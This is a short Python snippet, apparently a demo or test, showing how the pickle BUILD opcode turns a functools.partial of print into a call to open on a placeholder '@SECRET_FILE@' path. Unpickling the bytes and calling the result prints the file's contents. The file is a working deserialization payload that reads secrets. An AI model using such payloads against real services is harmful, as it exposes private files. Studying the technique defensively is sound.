"""BUILD changes an object's state while it is read: a partial of another function."""
import pickle
made = pickle.loads(b"cfunctools\npartial\n(cbuiltins\nprint\ntR(cbuiltins\nopen\n(S'@SECRET_FILE@'\nt(dNtb.")
print(made().read())
